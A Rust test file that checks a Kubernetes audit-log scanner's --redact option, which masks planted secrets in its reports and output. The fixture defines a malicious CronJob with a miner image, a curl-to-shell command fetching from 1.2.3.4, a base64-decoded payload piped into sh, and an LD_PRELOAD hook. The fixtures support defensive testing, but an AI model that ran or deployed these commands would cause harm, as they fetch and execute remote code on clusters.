//! `--redact`: no planted secret is in any report. Without the option they are, which shows that the test can fail.

use std::fs;

use serde_json::json;

use crate::{hits, kubesweep, scan};

/// The text in every planted secret.
const MARK: &str = "hunter2";

/// A CronJob and a change of it, with secrets in every place where a request may have them.
fn log() -> String {
    let secret = |place: &str| format!("{MARK}{place}");
    let event = |number: usize| {
        let place = |name: &str| secret(&format!("{name}{number}"));
        let applied = json!({"spec": {"x": place("applied")}}).to_string();
        let encoded = "aHVudGVyMmh1bnRlcjJodW50ZXIyaHVudGVyMmh1bnRlcjI=";
        let container = json!({
            "name": "c", "image": "docker.io/x/miner",
            "command": ["sh", "-c", format!("curl -H 'Authorization: Bearer {}' http://u:{}@1.2.3.4/x | sh", place("bearer"), place("userinfo"))],
            "args": ["--password", place("argument"), format!("--api-key={}", place("inline")), format!("PGPASSWORD={} psql", place("variable"))],
            "env": [{"name": "A", "value": place("env")}, {"name": "B", "value": format!("echo {encoded} | base64 -d | sh")},
                    {"name": "LD_PRELOAD", "value": format!("/tmp/{}.so", place("preload"))}],
        });
        let object = json!({
            "metadata": {"name": "x", "namespace": "n", "annotations": {"kubectl.kubernetes.io/last-applied-configuration": applied}},
            "spec": {"schedule": format!("*/{} * * * *", number + 1), "jobTemplate": {"spec": {"template": {"spec": {
                "hostPID": true, "containers": [container]}}}}}
        });
        json!({
            "kind": "Event", "apiVersion": "audit.k8s.io/v1", "auditID": format!("id-{number}"), "stage": "ResponseComplete", "level": "RequestResponse",
            "verb": if number == 0 { "create" } else { "update" },
            "requestURI": format!("/apis/batch/v1/namespaces/n/cronjobs?token={}&limit=1", place("uri")),
            "user": {"username": "eve", "extra": {"accessKeyId": [format!("AKIA{}", "Q".repeat(16))]}},
            "impersonatedUser": {"username": format!("password={}", place("impersonated"))},
            "userAgent": format!("curl/8 secret={}", place("agent")), "sourceIPs": ["10.0.0.1"],
            "objectRef": {"resource": "cronjobs", "namespace": "n", "name": "x", "apiGroup": "batch", "apiVersion": "v1"},
            "responseStatus": {"code": 201, "message": format!("invalid token: {}", place("message"))},
            "requestObject": object, "responseObject": object,
            "requestReceivedTimestamp": format!("2026-11-24T03:0{number}:00Z"),
        })
        .to_string()
            + "\n"
    };
    event(0) + &event(1)
}

/// The files of a report that contain a secret.
fn leaking(out: &std::path::Path) -> Vec<String> {
    let mut names: Vec<String> = fs::read_dir(out)
        .unwrap()
        .map(|entry| entry.unwrap().path())
        .filter(|path| {
            let text = fs::read_to_string(path).unwrap();
            text.contains(MARK) || text.contains("AKIAQ") || text.contains("aHVudGVy")
        })
        .map(|path| path.file_name().unwrap().to_str().unwrap().to_owned())
        .collect();
    names.sort();
    names
}

#[test]
fn no_report_holds_a_secret() {
    let here = tempfile::tempdir().unwrap();
    let dump = here.path().join("a.log");
    fs::write(&dump, log()).unwrap();
    let rules = ["-r", "builtin:all"];
    let (_kept, plain, run) = scan(std::slice::from_ref(&dump), &rules);
    assert_eq!(run.exit, 0, "{}", run.stderr);
    let leaks = ["hits.csv", "hits.jsonl", "report.html", "runbook.json", "runbook.md", "summary.csv"];
    let told = leaking(&plain);
    assert!(leaks.iter().all(|leak| told.contains(&(*leak).to_owned())), "{told:?}");
    let (_kept, masked, run) = scan(std::slice::from_ref(&dump), &[&rules[..], &["--redact"]].concat());
    assert_eq!(run.exit, 0, "{}", run.stderr);
    assert_eq!(leaking(&masked), Vec::<String>::new());
    // Everything else stays: the same hits at the same bytes, with the same verdicts.
    let [plain_hits, masked_hits] = [&plain, &masked].map(|out| hits(out));
    for (plain, masked) in plain_hits.iter().zip(&masked_hits) {
        assert_eq!(plain["evidence"], masked["evidence"]);
        assert_eq!(plain["alert_id"], masked["alert_id"]);
    }
    assert!(plain_hits.len() == masked_hits.len() && plain_hits.len() > 1);
    assert!(masked_hits[0]["request_uri"].as_str().unwrap().ends_with("?token=[redacted]&limit=1"));
    let [plain, masked] = [plain, masked].map(|out| fs::read_to_string(out.join("report.json")).unwrap());
    let verdicts = |text: &str| text.lines().filter(|line| line.contains("\"verdict\"")).map(str::to_owned).collect();
    let [plain, masked]: [Vec<String>; 2] = [verdicts(&plain), verdicts(&masked)];
    assert_eq!(plain, masked);
}

#[test]
fn nothing_printed_holds_a_secret() {
    let here = tempfile::tempdir().unwrap();
    let secret = json!({"kind": "Event", "apiVersion": "audit.k8s.io/v1", "verb": "patch", "objectRef": {"resource": "secrets"},
        "requestObject": {"data": {"k": format!("{MARK}data")}}, "n": 1});
    let places = [
        "/spec/jobTemplate/spec/template/spec/containers/0/env/-",
        "/spec/containers/0/env/0/value",
        "/metadata/annotations/kubectl.kubernetes.io~1last-applied-configuration",
        "/spec/password",
        "/data/k",
    ];
    let operations =
        places.map(|path| json!({"op": "add", "path": path, "value": {"name": "Q", "value": format!("{MARK}p")}}));
    let headers =
        json!({"httpHeaders": [{"name": "X-Api-Key", "value": format!("{MARK}h")}], "credentials": format!("{MARK}c")});
    let patch = json!({"kind": "Event", "apiVersion": "audit.k8s.io/v1", "verb": "patch", "requestObject": operations,
        "objectRef": {"resource": "cronjobs"}, "responseObject": headers});
    let lines = [&secret.to_string().replace("\"n\":1", "\"n\":1e999"), &secret.to_string(), &patch.to_string()];
    fs::write(here.path().join("a.log"), log() + &lines.map(String::as_str).join("\n")).unwrap();
    for command in [
        &["events", "a.log"][..],
        &["events", "a.log", "--format", "timesketch"],
        &["runbook", "a.log"],
        &["runbook", "a.log", "--format", "json"],
        &["scan", "a.log", "-o", "-"],
        &["scan", "a.log", "-o", "-", "--format", "csv"],
    ] {
        let leaks = |run: crate::Run| run.stdout.contains(MARK) || run.stderr.contains(MARK);
        assert!(leaks(kubesweep(here.path(), command)), "{command:?}");
        let masked = kubesweep(here.path(), &[command, &["--redact"]].concat());
        assert!(!masked.stdout.is_empty() && !leaks(masked), "{command:?}");
    }
}

/// A title that a rule fills with the value of a variable is masked everywhere; the rest of it stays.
#[test]
fn a_title_that_quotes_a_secret_is_masked() {
    let here = tempfile::tempdir().unwrap();
    let dump = here.path().join("a.log");
    fs::write(&dump, log()).unwrap();
    let rules = here.path().join("r.yml");
    let env = "requestObject.spec.jobTemplate.spec.template.spec.containers[0].env[0].value";
    let rule = |id: &str, title: &str| {
        format!(
            "RuleID: {id}\nSeverity: High\nAlertTitle: 'ran {{{title}}}'\nDedupKey: '{{{title}}}'\nDetection: {{Key: resource, Condition: Equals, Value: cronjobs}}\n"
        )
    };
    fs::write(&rules, rule("A", env) + "---\n" + &rule("B", "username")).unwrap();
    let rules = ["-r", rules.to_str().unwrap()];
    let (_kept, plain, _) = scan(std::slice::from_ref(&dump), &rules);
    let titles = |out: &std::path::Path| -> Vec<String> {
        hits(out).iter().map(|hit| hit["title"].as_str().unwrap().to_owned()).collect()
    };
    assert!(titles(&plain).iter().any(|title| title.contains(MARK)));
    let (_kept, masked, run) = scan(&[dump], &[&rules[..], &["--redact"]].concat());
    assert_eq!(run.exit, 0, "{}", run.stderr);
    assert_eq!(leaking(&masked), Vec::<String>::new());
    assert_eq!(titles(&masked), ["[redacted]", "ran eve", "[redacted]", "ran eve"]);
    let ids = |out: &std::path::Path| hits(out).iter().map(|hit| hit["alert_id"].clone()).collect::<Vec<_>>();
    assert_eq!(ids(&plain), ids(&masked));
}
